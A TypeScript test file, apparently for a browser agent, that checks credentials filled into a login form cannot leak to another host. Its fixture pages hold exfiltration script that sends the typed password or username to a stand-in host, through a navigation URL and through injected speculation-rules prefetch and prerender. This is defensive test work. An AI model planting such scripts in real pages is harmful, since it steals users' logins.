import { expect, test } from 'vitest'
import { Secret } from '../../../src/lib/secret.ts'
import { loginCuts } from '../../../src/turn/login-block.ts'
import { openTestSession, type TestSession } from '../../support/browser/open-test-session.ts'

const password = 'Zq7!canary-5f0e'
const username = 'maya.canary-83bd@shop.example'
const login = { username: new Secret(username), password: new Secret(password) }
const credentials = [{ ...login, handle: 'shop', host: 'shop.test.example' }]

const form = `<!doctype html><title>Login</title><label>User <input></label>
  <label>Password <input type="password"></label>`
/** The time of a busy machine. */
const caps = { actionabilityMs: 60_000 }

/** In a page: what was filled in. */
const entered = `[...document.querySelectorAll('input')].map(({ value }) => value).join('')`

/** Asks the browser for a document of the other host; its path tells the length of the entered value. */
const page = (kind: string): string => `${form} <button>Go</button><script>
  document.querySelector('button').onclick = () => {
    const value = ${entered}
    const url = 'https://other.test.example/' + value.length + '?' + encodeURIComponent(value)
    const rules = JSON.stringify({ ${kind}: [{ source: 'list', urls: [url], eagerness: 'immediate' }] })
    const script = Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: rules })
    document.head.append(script)
  }</script>`

const leave = `${form}
  <button onclick="location.href = 'https://other.test.example/top?v=' + ${entered}">Go</button>`

async function fillIn(session: TestSession, field: 'username' | 'password'): Promise<void> {
  const { ref } = session.find(field === 'password' ? 'Password' : 'User')
  const action = { kind: 'use_credential', ref, credential: 'shop', field } as const
  expect((await session.act(action)).failure).toBeNull()
  await session.observe()
}

test.each(['password', 'username'] as const)(
  'a page does not navigate to another host with a login, even if the run allows it: the %s',
  async (field) => {
    const pages = { '/': leave, '/top': '<title>Elsewhere</title>' }
    const options = { credentials, isNavigationAllowed: () => true }
    await using session = await openTestSession(pages, caps, options)
    await session.open('/')
    await session.click('Go')
    expect((await session.observe()).title).toBe('Elsewhere')
    await session.open('/')
    await fillIn(session, field)

    const { failure } = await session.click('Go')

    expect(failure).toMatchObject({ kind: 'blocked_navigation', message: loginCuts.sent })
    expect((await session.observe()).title).toBe('Login')
  },
)

test.each([
  ['prefetch', 'password', '15?Zq7!canary-5f0e'],
  ['prerender', 'password', '15?Zq7!canary-5f0e'],
  ['prefetch', 'username', '29?maya.canary-83bd%40shop.example'],
  ['prerender', 'username', '29?maya.canary-83bd%40shop.example'],
] as const)('a login is not sent by prefetching: %s of the %s', async (kind, field, address) => {
  await using session = await openTestSession({ '/': page(kind) }, caps, { credentials })
  await session.open('/')
  await fillIn(session, field)

  await session.click('Go')

  const { failedRequests } = await session.observe()
  expect(failedRequests).toContainEqual({
    method: 'GET',
    url: `https://other.test.example/${address}`,
    status: null,
    resourceType: 'prefetch',
    error: loginCuts.ahead,
    blocked: true,
  })
  await session.open('/')
  const arrived = session.requests.filter((request) => request.startsWith('other.'))
  expect(arrived).toEqual([])
})
